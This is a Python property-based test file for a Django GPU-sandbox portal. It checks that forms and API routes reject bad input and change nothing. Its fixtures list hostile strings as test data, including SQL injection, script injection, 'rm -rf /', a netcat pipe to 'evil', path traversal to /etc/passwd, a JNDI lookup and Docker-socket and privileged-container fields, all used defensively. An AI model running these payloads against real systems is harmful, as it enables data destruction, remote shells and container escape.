"""Bad input, property-tested: the request form and every API route that takes input refuse
malformed, oversized and hostile values with a 4xx naming the field, and change nothing.

Each example sends one request and compares a snapshot of the rows a request could write
(sandboxes, allocations, usage, audit, idempotency keys) before and after.
"""

from __future__ import annotations

import json
import math
from typing import Any

import pytest
from django import forms
from django.core.cache import cache
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rest_framework import serializers

from portal.accounts.models import ApiToken
from portal.api.models import IdempotencyKey
from portal.audit.models import AuditEntry
from portal.billing.models import UsageRecord
from portal.sandboxes.api import SandboxCreateSerializer
from portal.sandboxes.forms import SandboxRequestForm
from portal.sandboxes.models import Allocation, Sandbox
from tests.portal.helpers import request

pytestmark = pytest.mark.django_db
FAST = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

HOSTILE_TEXT = [
    "' OR 1=1 --", "'; DROP TABLE sandboxes_sandbox; --", "<script>alert(1)</script>", "$(reboot)",
    "`id`", "; rm -rf / #", "| nc evil 1", "../../../etc/passwd", "..\\..\\windows", "%00", "a\x00b",
    "\x1b[31mred", "line\nbreak", "\r\n", "\u202egnp.exe", "\ufeffbom", "\u200b", "🀄" * 10, "Ω≈ç√",
    "\ud800", "x" * 300_000, " ", "", "{{7*7}}", "${jndi:ldap://x}", "evil.example/busybox:latest",
    "busybox@sha256:" + "0" * 64, "/var/run/docker.sock",
]  # fmt: skip
JSON_JUNK = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**30), 10**30),
    st.sampled_from([10**400, -1, 0, 2**63, 2**64 + 1]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=60),
    st.sampled_from(HOSTILE_TEXT),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
    st.just({"nested": {"deeper": [1, {"x": None}]}}),
)
HOSTILE_FIELDS = [
    "privileged", "cap_add", "volumes", "mounts", "binds", "devices", "network_mode", "host_network",
    "security_opt", "user", "pid_mode", "ipc_mode", "env", "runtime", "image_reference",
]  # fmt: skip


@pytest.fixture
def world(people: Any, catalog: Any, sent_tasks: Any, settings: Any) -> dict[str, Any]:
    cache.clear()
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"burst": "1000000/min", "sustained": "1000000/hour"},
    }
    mine = request(people["member"], people["project"], catalog["dedicated"], catalog["image"])
    _, key = ApiToken.issue(people["member"], "fuzz", list(ApiToken.Scope.values))
    browser = Client()
    browser.force_login(people["member"])
    return {**people, **catalog, "mine": mine, "api": Client(HTTP_AUTHORIZATION=f"Bearer {key}"),
            "browser": browser}  # fmt: skip


def snapshot() -> tuple[Any, ...]:
    return (
        list(Sandbox.objects.order_by("pk").values_list("pk", "state", "max_duration", "command")),
        Allocation.objects.count(),
        UsageRecord.objects.count(),
        AuditEntry.objects.count(),
        IdempotencyKey.objects.count(),
    )


def readable(message: Any) -> bool:
    return isinstance(message, str) and 0 < len(message) < 400 and message.isprintable()


def assert_refused(response: Any, field: str | None) -> dict[str, Any]:
    """A 4xx; a 400 names ``field`` (when given) with readable messages."""
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:300])
    body = response.json()
    if response.status_code == 400 and "detail" not in body:
        if field is not None:
            assert field in body, body
        for messages in body.values():
            assert isinstance(messages, list) and all(readable(m) for m in messages), body
    elif response.status_code == 400:
        assert "parse error" in body["detail"] and readable(body["detail"])  # unparseable JSON
    return body


def create_body(**fields: Any) -> dict[str, Any]:
    return {"project": "vision", "tier": "dedicated", "image": "busybox", "isolation": "container",
            "gpu_count": 1, "duration_hours": 1, **fields}  # fmt: skip


def field_accepts(field: str, value: Any) -> bool:
    """True when the API field alone would take ``value`` (those are not bad input)."""
    if field in ("project", "tier", "image"):
        return isinstance(value, (str, int, float)) and str(value).strip() in (
            "vision",
            "dedicated",
            "busybox",
        )
    try:
        SandboxCreateSerializer().fields[field].run_validation(value)
    except serializers.ValidationError:
        return False
    return True


API_FIELDS = ["project", "tier", "image", "isolation", "gpu_count", "duration_hours", "run", "mig_profile",
              "mps_memory_gib", "mps_thread_pct"]  # fmt: skip


def send_json(client: Client, path: str, raw: str, key: str | None = None) -> Any:
    headers = {"Idempotency-Key": key} if key else {}
    return client.generic("POST", path, raw, content_type="application/json", headers=headers)


@FAST
@given(field=st.sampled_from(API_FIELDS), value=JSON_JUNK, key=st.none() | st.text(min_size=1, max_size=30))
def test_api_create_refuses_bad_json_fields(world: dict[str, Any], field: str, value: Any, key: Any) -> None:
    if field_accepts(field, value):
        return
    before = snapshot()
    raw = json.dumps(create_body(**{field: value}))  # NaN and Infinity as JS literals
    key = key if key is None or key.isprintable() else None  # headers: see the Idempotency-Key test
    response = send_json(world["api"], "/api/v1/sandboxes/", raw, key)
    assert_refused(response, field)
    assert snapshot() == before


BAD_COMMANDS = ["x" * 2001, "a\x00b", "echo \x1b[2J", "echo 'unclosed", "", "   ", "\ud800", "a\nb"]


@FAST
@given(command=st.one_of(st.sampled_from(BAD_COMMANDS), JSON_JUNK.filter(lambda v: not isinstance(v, str))))
def test_api_refuses_bad_batch_commands(world: dict[str, Any], command: Any) -> None:
    before = snapshot()
    response = send_json(
        world["api"], "/api/v1/sandboxes/", json.dumps(create_body(run="batch", command=command))
    )
    assert_refused(response, "command")
    assert snapshot() == before
    # A command on an interactive run would be ignored: refused instead.
    response = world["api"].post(
        "/api/v1/sandboxes/", create_body(command="ls"), content_type="application/json"
    )
    assert_refused(response, "command")


@FAST
@given(field=st.sampled_from(HOSTILE_FIELDS) | st.text(min_size=1, max_size=30), value=JSON_JUNK)
def test_api_refuses_unknown_fields(world: dict[str, Any], field: str, value: Any) -> None:
    if field in SandboxCreateSerializer().fields:
        return
    before = snapshot()
    response = send_json(world["api"], "/api/v1/sandboxes/", json.dumps(create_body(**{field: value})))
    body = assert_refused(response, None)
    plain = field.isprintable() and len(field) <= 40 and not any(0xD800 <= ord(c) < 0xE000 for c in field)
    if plain and "detail" not in body:  # (a NaN or Infinity value: the body is not JSON at all)
        assert body[field] != [], body
    assert snapshot() == before


@pytest.mark.parametrize(
    "image",
    ["evil.example/busybox:latest", "busybox@sha256:" + "0" * 64, "docker.io/library/busybox", "BUSYBOX"],
)
def test_only_allowlisted_images(world: dict[str, Any], image: str) -> None:
    before = snapshot()
    response = world["api"].post(
        "/api/v1/sandboxes/", create_body(image=image), content_type="application/json"
    )
    assert assert_refused(response, "image")["image"][0]  # "No such allowed image", or too long
    assert snapshot() == before


def test_duplicate_keys_and_repeated_fields_are_refused(world: dict[str, Any]) -> None:
    before = snapshot()
    raw = '{"project": "vision", "tier": "dedicated", "tier": "mig", "image": "busybox", "duration_hours": 1}'
    assert "tier" in assert_refused(send_json(world["api"], "/api/v1/sandboxes/", raw), "tier")
    form = world["api"].post(
        "/api/v1/sandboxes/?", "project=vision&tier=dedicated&image=busybox&gpu_count=1&gpu_count=4",
        content_type="application/x-www-form-urlencoded",
    )  # fmt: skip
    assert_refused(form, "gpu_count")
    for raw in ("[1, 2]", '"x"', "null", "{", "1e999999", '{"project": NaN}', "\x00"):
        assert_refused(send_json(world["api"], "/api/v1/sandboxes/", raw), None)
    assert snapshot() == before


def form_text(value: Any) -> str:
    text = value if isinstance(value, str) else json.dumps(value)
    return text.encode("utf-8", "replace").decode()  # a form post carries UTF-8 only


@FAST
@given(field=st.sampled_from(API_FIELDS), value=JSON_JUNK)
def test_api_create_refuses_bad_form_fields(world: dict[str, Any], field: str, value: Any) -> None:
    text = form_text(value)
    if field_accepts(field, text):
        return
    before = snapshot()
    response = world["api"].post("/api/v1/sandboxes/", {**create_body(), field: text, "privileged": "true"})
    body = assert_refused(response, None)
    assert "privileged" in body or field in body, body
    assert snapshot() == before


# --- the request form -----------------------------------------------------------------------

FORM_FIELDS = list(SandboxRequestForm.base_fields)


def form_field_accepts(world: dict[str, Any], field: str, text: str) -> bool:
    valid = {"project": world["project"].pk, "tier": world["dedicated"].pk, "image": world["image"].pk}
    if field in valid:
        return text.strip() == str(valid[field])
    if field == "command":
        return True  # the command only matters for batch runs; tested below
    try:
        SandboxRequestForm.base_fields[field].clean(text)
    except forms.ValidationError:
        return False
    return True


def form_post(world: dict[str, Any], **fields: str) -> dict[str, str]:
    return {"project": str(world["project"].pk), "tier": str(world["dedicated"].pk),
            "image": str(world["image"].pk), "isolation": "container", "gpu_count": "1",
            "duration_hours": "1", **fields}  # fmt: skip


@FAST
@given(field=st.sampled_from(FORM_FIELDS), value=JSON_JUNK)
def test_request_form_refuses_bad_fields(world: dict[str, Any], field: str, value: Any) -> None:
    text = form_text(value)
    if form_field_accepts(world, field, text):
        return
    before = snapshot()
    response = world["browser"].post("/sandboxes/new/", form_post(world, **{field: text}))
    assert response.status_code == 400
    errors = response.context["form"].errors
    assert field in errors and all(readable(str(e)) for e in errors[field]), errors
    assert snapshot() == before


@FAST
@given(command=st.sampled_from([c for c in BAD_COMMANDS if c != "\ud800"]))
def test_request_form_refuses_bad_batch_commands(world: dict[str, Any], command: str) -> None:
    before = snapshot()
    response = world["browser"].post("/sandboxes/new/", form_post(world, run="batch", command=command))
    assert response.status_code == 400 and "command" in response.context["form"].errors
    assert snapshot() == before


@pytest.mark.parametrize("field", HOSTILE_FIELDS)
def test_request_form_refuses_unknown_and_repeated_fields(world: dict[str, Any], field: str) -> None:
    before = snapshot()
    response = world["browser"].post("/sandboxes/new/", form_post(world, **{field: "true"}))
    assert response.status_code == 400
    assert field in " ".join(response.context["form"].non_field_errors())
    repeated = world["browser"].post("/sandboxes/new/", {**form_post(world), "tier": ["1", "2"]})
    assert repeated.status_code == 400 and "tier" in repeated.context["form"].errors
    preview = world["browser"].post("/sandboxes/preview/", form_post(world, **{field: "1"}))
    assert preview.status_code == 200 and field in preview.content.decode()
    assert snapshot() == before


# --- stop and extend ------------------------------------------------------------------------


@FAST
@given(hours=JSON_JUNK, extra=st.none() | st.sampled_from(HOSTILE_FIELDS))
def test_extend_and_stop_refuse_bad_bodies(world: dict[str, Any], hours: Any, extra: str | None) -> None:
    if not isinstance(hours, (bool, dict, list)) and str(hours) in ("1", "2", "4") and extra is None:
        return
    pk = world["mine"].pk
    before = snapshot()
    body = {"hours": hours, **({extra: True} if extra else {})}
    response = send_json(world["api"], f"/api/v1/sandboxes/{pk}/extend/", json.dumps(body))
    # A lone surrogate fails the body's parsing, before its fields are read: that error
    # names the field it is in, and an unknown field beside it waits for the next try.
    assert_refused(response, "hours" if _has_surrogate(hours) else extra or "hours")
    if extra:
        assert_refused(
            send_json(world["api"], f"/api/v1/sandboxes/{pk}/stop/", json.dumps({extra: 1})), extra
        )
    assert snapshot() == before


def _has_surrogate(value: Any) -> bool:
    return any(0xD800 <= ord(c) <= 0xDFFF for c in json.dumps(value, ensure_ascii=False))


@pytest.mark.parametrize("pk", ["²", "\u0661", "-1", "1e3", "99999999999999999999", "%00", "..", "1;2"])
def test_odd_ids_are_not_found(world: dict[str, Any], pk: str) -> None:
    before = snapshot()
    for path in (f"/api/v1/sandboxes/{pk}/", f"/api/v1/sandboxes/{pk}/stop/", f"/api/v1/usage/{pk}/"):
        response = world["api"].post(path) if "stop" in path else world["api"].get(path)
        assert response.status_code in (404, 405), (path, response.status_code)
    assert snapshot() == before


@pytest.mark.parametrize("key", ["a\x00b", "x" * 256, "\x1b[2J", "tab\there"])
def test_bad_idempotency_keys_are_refused(world: dict[str, Any], key: str) -> None:
    before = snapshot()
    response = send_json(world["api"], "/api/v1/sandboxes/", json.dumps(create_body()), key)
    assert_refused(response, "Idempotency-Key")
    assert snapshot() == before


# --- list filters ---------------------------------------------------------------------------

LIST_ROUTES = {
    "/api/v1/sandboxes/": ("project", "user", "tier", "start", "end", "cursor", "page_size"),
    "/api/v1/usage/": ("project", "user", "tier", "start", "end", "cursor", "page_size"),
    "/api/v1/usage/export.csv": ("project", "user", "tier", "start", "end"),
    "/api/v1/utilization/": ("by", "project", "tier", "start", "end"),
    "/api/v1/invoices/": ("project", "period", "state", "cursor", "page_size"),
    "/api/v1/prices/": ("cursor", "page_size"),
    "/api/v1/projects/": ("cursor", "page_size"),
    "/api/v1/quotas/": ("cursor", "page_size"),
}
QUERY_JUNK = st.one_of(
    st.text(st.characters(codec="utf-8"), max_size=40),
    st.sampled_from([h for h in HOSTILE_TEXT if h != "\ud800"]),
    st.sampled_from(["-1", "0", "1e9", "NaN", "inf", "9" * 40, "2026-13-45", "0000-00-00T25:61", "1001"]),
    st.floats().map(str),
)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    route=st.sampled_from(sorted(LIST_ROUTES)),
    data=st.data(),
    value=QUERY_JUNK,
    unknown=st.none() | st.sampled_from(["privileged", "limit", "offset", "ordering", "search", "page"]),
)
def test_list_filters_refuse_bad_values(
    world: dict[str, Any], route: str, data: Any, value: str, unknown: str | None
) -> None:
    name = data.draw(st.sampled_from(LIST_ROUTES[route]))
    before = snapshot()
    params = {name: value, **({unknown: "1"} if unknown else {})}
    response = world["api"].get(route, params, HTTP_ACCEPT="application/json")
    assert response.status_code < 500
    if unknown:
        assert response.status_code == 400 and "Unknown parameter" in response.json()[unknown][0]
    elif response.status_code == 400:
        assert_refused(response, name)
    elif response.status_code == 404:
        assert name == "cursor"  # DRF: "Invalid cursor"
    else:
        assert response.status_code == 200
        if route != "/api/v1/usage/export.csv":
            results = response.json().get("results", [])
            if name in ("project", "user", "tier") and value not in ("", "vision", "mark", "dedicated"):
                assert results == [], (name, value)  # an unknown slug matches nothing
    assert snapshot() == before


def test_repeated_parameters_and_nan_page_sizes(world: dict[str, Any]) -> None:
    for route in LIST_ROUTES:
        response = world["api"].get(route + "?project=vision&project=nlp", HTTP_ACCEPT="application/json")
        if "project" in LIST_ROUTES[route]:
            assert "more than once" in response.json()["project"][0]
    for size in ("0", "-5", "NaN", "1001", "1.5", str(math.inf), "٣"):
        assert "page_size" in world["api"].get(f"/api/v1/usage/?page_size={size}").json()
